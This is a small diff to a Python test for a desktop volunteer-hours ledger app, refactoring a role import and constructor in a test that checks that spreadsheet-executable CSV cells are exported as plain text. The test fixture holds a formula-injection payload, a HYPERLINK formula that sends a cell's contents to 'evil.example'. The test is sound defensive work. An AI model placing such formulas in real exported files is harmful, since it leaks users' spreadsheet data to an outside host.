@@ -267,7 +267,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_
 ) -> None:
     import csv as csv_module
 
-    from okuvol_desktop.services.roles import RoleTerms
+    from okuvol_desktop.domain.model import RoleDetails
 
     names = {
         "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -282,7 +282,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_
         ledger.names.person(names["person"]),
         ledger.names.organisation(names["organisation"]),
         WorkKind.VOLUNTEER,
-        RoleTerms(names["role"]),
+        RoleDetails(title=names["role"]),
     )
     log(
         ledger, date(2026, 3, 2), hours="1", person=names["person"], org=names["organisation"],
